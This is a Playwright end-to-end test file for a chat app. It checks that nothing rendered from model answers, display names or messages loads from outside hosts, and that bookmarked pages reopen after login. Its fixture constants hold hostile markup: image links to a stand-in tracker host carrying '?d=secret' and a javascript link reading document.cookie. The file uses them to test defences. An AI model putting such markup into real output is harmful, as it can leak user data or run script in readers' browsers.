"""Nothing the app shows loads from outside the machine, whatever a model or a person writes;
and an app page's address opens that page once the visitor has logged in.

Every request a real Chromium makes is recorded (`context.on("request")`) and checked against
the hosts the app runs on. A Markdown image from the model or in a display name would make the
browser fetch its URL the moment it is drawn; a Material Symbols page icon made it fetch from
Google's font servers on every page load.
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.e2e.conftest import PASSWORD, register, screenshot, settle, wait_for_login_cookie
from tests.fakes.ollama_server import FakeOllama

pytestmark = [pytest.mark.e2e, pytest.mark.slow]

LOCAL_HOSTS = {"127.0.0.1", "localhost"}
WORD_JOINER = "\u2060"
# What the model answers: images (remote and on this server), links (script, remote), raw HTML,
# an autolink, a bare address, maths, a colour directive and an icon.
HOSTILE_REPLY = (
    "You are not alone in this. ",
    "![calm](http://tracker.invalid/answer.png?d=secret) ",
    "![here](/answer.png?d=secret) ",
    "Try [this exercise](javascript:alert(document.cookie)) ",
    "or [a helpline](https://findahelpline.com). ",
    '<img src="http://tracker.invalid/raw.png"> ',
    "See www.tracker.invalid/page and <http://tracker.invalid/auto>. ",
    "It costs $0 and :red[nothing] to **breathe slowly**.",
)
HOSTILE_NAME = "Sam ![n](http://tracker.invalid/name.png)![m](/name.png)"
# The conversation's title is the first 48 characters: kept plain (the sidebar draws it).
HOSTILE_MESSAGE = (
    "I keep worrying about tomorrow and cannot settle.\n"
    "# not a heading ![u](http://tracker.invalid/user.png) $x^2$"
)
FETCHED_BY_MARKUP = ("answer.png", "raw.png", "name.png", "user.png", "tracker.invalid")


@contextmanager
def _fresh_page(browser: Browser) -> Iterator[Page]:
    """A new browser context (its own cookies) and page."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    opened = context.new_page()
    opened.set_default_timeout(30_000)
    try:
        yield opened
    finally:
        context.close()


def _record(page: Page) -> list[str]:
    """From now on, every URL the page's context asks for (documents, images, fonts, sockets)."""
    urls: list[str] = []
    page.context.on("request", lambda request: urls.append(request.url))
    page.on("websocket", lambda socket: urls.append(socket.url))
    return urls


def _outside(urls: list[str]) -> list[str]:
    return [
        url
        for url in urls
        if urlsplit(url).scheme not in {"data", "blob", "about"}
        and urlsplit(url).hostname not in LOCAL_HOSTS
    ]


def _shown(text: str) -> str:
    return text.replace(WORD_JOINER, "")


def _log_in(page: Page, username: str) -> None:
    expect(page.get_by_role("heading", name="Welcome back")).to_be_visible()
    settle(page)
    page.get_by_role("textbox", name="Username").fill(username)
    page.get_by_role("textbox", name="Password", exact=True).fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()


def _send(page: Page, text: str) -> None:
    page.get_by_role("link", name="Talk it through").first.click()
    expect(page.get_by_role("heading", name="Talk it through")).to_be_visible()
    settle(page)
    box = page.get_by_placeholder("How are you feeling right now?")
    box.fill(text)
    box.press("Enter")
    expect(page.get_by_text("You are not alone in this").last).to_be_visible(timeout=60_000)
    settle(page, quiet_ms=1500)


def test_a_page_load_asks_nothing_of_other_hosts(app_url: str, page: Page) -> None:
    urls = _record(page)
    page.goto(app_url)
    expect(page.get_by_role("heading", name="Welcome back")).to_be_visible()
    settle(page)
    page.get_by_role("link", name="Create an account").click()
    expect(page.get_by_role("heading", name="Create your account")).to_be_visible()
    settle(page)

    assert _outside(urls) == []
    icons = [url for url in urls if "MaterialSymbols" in url]  # the links' and boxes' icons
    assert icons and _outside(icons) == []
    assert any(urlsplit(url).path.startswith("/media/") for url in urls)  # the page icon


def test_nothing_the_app_shows_loads_from_outside(
    model_app_url: str, fake_ollama: FakeOllama, browser: Browser
) -> None:
    fake_ollama.reply_tokens = list(HOSTILE_REPLY)
    with _fresh_page(browser) as first:  # saves a hostile name, message and answer
        register(first, model_app_url, "pat", HOSTILE_NAME, reload=True)
        _send(first, HOSTILE_MESSAGE)

    with _fresh_page(browser) as page:
        urls = _record(page)
        page.goto(model_app_url)
        _log_in(page, "pat")
        title = page.get_by_role("heading", level=1)
        expect(title).to_contain_text("Good")
        wait_for_login_cookie(page)
        settle(page)
        assert HOSTILE_NAME in _shown(title.inner_text())  # shown as typed
        caption = page.get_by_test_id("stSidebar").get_by_text("Logged in as")
        assert HOSTILE_NAME in _shown(caption.inner_text())
        screenshot(page, "privacy-01-home")

        page.get_by_role("link", name="Talk it through").first.click()
        expect(page.get_by_role("heading", name="Talk it through")).to_be_visible()
        settle(page)
        page.get_by_test_id("stSidebar").get_by_text("I keep worrying about tomorrow").click()
        main = page.get_by_role("main")
        expect(main.get_by_text("You are not alone in this")).to_be_visible()
        settle(page)
        said = _shown(main.locator('[data-testid="stChatMessage"]').all_inner_texts()[-2])
        assert "# not a heading ![u](http://tracker.invalid/user.png) $x^2$" in said
        answer = _shown(main.locator('[data-testid="stChatMessage"]').all_inner_texts()[-1])
        assert "a helpline (https://findahelpline.com)" in answer
        assert "<http" not in answer and "www.tracker.invalid/page" in answer
        assert main.locator("h1, h2, h3").filter(has_text="not a heading").count() == 0
        assert main.locator(".katex").count() == 0
        screenshot(page, "privacy-02-chat")

        page.get_by_role("link", name="Settings").first.click()
        expect(page.get_by_role("heading", name="Settings")).to_be_visible()
        settle(page)
        screenshot(page, "privacy-03-settings")

        links = page.eval_on_selector_all("a[href]", "links => links.map(a => a.href)")
        images = page.eval_on_selector_all("img[src]", "images => images.map(i => i.src)")

    assert _outside(urls) == []
    assert [url for url in urls if any(part in url for part in FETCHED_BY_MARKUP)] == []
    assert [url for url in links if url.startswith("javascript:") or "tracker" in url] == []
    assert _outside(images) == []
    # The Material icons of the navigation and page links come from the app's own server.
    assert any("MaterialSymbols" in url for url in urls)
    # So does the page icon.
    assert any(urlsplit(url).path.startswith("/media/") for url in urls)


def test_an_answer_as_it_streams_loads_nothing_from_outside(
    model_app_url: str, fake_ollama: FakeOllama, browser: Browser
) -> None:
    fake_ollama.reply_tokens = list(HOSTILE_REPLY)
    with _fresh_page(browser) as page:
        register(page, model_app_url, "quinn", "Quinn", reload=True)
        urls = _record(page)
        _send(page, "I keep worrying about tomorrow and cannot settle.")
        screenshot(page, "privacy-04-streamed")
        links = page.eval_on_selector_all("a[href]", "links => links.map(a => a.href)")

    assert _outside(urls) == []
    assert [url for url in urls if any(part in url for part in FETCHED_BY_MARKUP)] == []
    assert [url for url in links if url.startswith("javascript:") or "tracker" in url] == []


APP_PAGES = [("chat", "Talk it through"), ("settings", "Settings")]


@pytest.mark.parametrize(("path", "heading"), APP_PAGES)
def test_an_app_page_address_opens_that_page_after_logging_in(
    app_url: str, browser: Browser, path: str, heading: str
) -> None:
    username = f"bookmark-{path}"
    with _fresh_page(browser) as first:
        register(first, app_url, username, "Robin", reload=True)

    with _fresh_page(browser) as page:  # a bookmark, opened logged out
        page.goto(f"{app_url}/{path}")
        expect(page.get_by_role("heading", name="Welcome back")).to_be_visible()
        settle(page)
        screenshot(page, f"bookmark-{path}-01-login")
        expect(page.get_by_text("Page not found")).to_have_count(0)

        _log_in(page, username)
        expect(page.get_by_role("heading", name=heading)).to_be_visible()
        assert urlsplit(page.url).path == f"/{path}"
        wait_for_login_cookie(page)
        settle(page)
        screenshot(page, f"bookmark-{path}-02-after-login")

        # The session ends on that page (here: logging out); logging in again comes back to it.
        page.get_by_role("button", name="Log out", exact=True).click()
        _log_in(page, username)
        expect(page.get_by_role("heading", name=heading)).to_be_visible()
        expect(page.get_by_text("Page not found")).to_have_count(0)
        assert urlsplit(page.url).path == f"/{path}"
